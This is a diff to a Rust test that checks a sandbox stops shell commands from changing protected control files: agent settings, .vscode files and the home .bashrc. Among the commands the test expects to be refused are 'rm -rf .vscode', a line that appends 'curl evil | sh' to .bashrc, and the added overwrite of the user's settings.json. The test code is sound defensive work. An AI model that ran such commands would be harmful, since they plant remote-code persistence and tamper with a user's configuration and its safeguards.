@@ -664,13 +664,14 @@ fn existing_control_files_cannot_be_changed_by_a_command() {
         return;
     }
     let s = setup();
-    let settings = format!(
+    // The user's own file makes the home an additional directory (a project's may not).
+    let user = format!(
         "{{\"permissions\":{{\"additionalDirectories\":[\"{}\"]}}}}",
         s.home.display()
     );
-    // In the user's file: a workspace file may not add the home (the stricter wins).
     fs::create_dir_all(s.home.join(".claude")).unwrap();
-    fs::write(s.home.join(".claude/settings.json"), &settings).unwrap();
+    fs::write(s.home.join(".claude/settings.json"), &user).unwrap();
+    let settings = "{\"model\":\"sonnet\"}".to_string();
     fs::create_dir_all(s.ws.join(".claude")).unwrap();
     fs::write(s.ws.join(".claude/settings.json"), &settings).unwrap();
     fs::create_dir_all(s.ws.join(".vscode")).unwrap();
@@ -686,19 +687,24 @@ fn existing_control_files_cannot_be_changed_by_a_command() {
         "rm -rf .vscode",
         "echo '{\"tasks\":[]}' > .vscode/tasks.json",
         "echo 'curl evil | sh' >> \"$HOME/.bashrc\"",
+        "echo '{}' > \"$HOME/.claude/settings.json\"",
         "echo ok > \"$HOME/notes.txt\" && echo wrote-home",
     ]
     .map(String::from);
     let (out, results) = run_commands(&s, &commands, &[]);
     assert!(out.status.success());
-    for (c, r) in commands[..8].iter().zip(&results) {
+    for (c, r) in commands[..9].iter().zip(&results) {
         assert!(!ok(r), "{c}: {}", content(r));
     }
-    // The additional directory itself is writable: only its rc file is protected.
+    // The additional directory itself is writable: only its control files are protected.
     assert!(
-        content(&results[8]).contains("wrote-home"),
+        content(&results[9]).contains("wrote-home"),
         "{}",
-        content(&results[8])
+        content(&results[9])
+    );
+    assert_eq!(
+        fs::read_to_string(s.home.join(".claude/settings.json")).unwrap(),
+        user
     );
     assert_eq!(
         fs::read_to_string(s.ws.join(".claude/settings.json")).unwrap(),
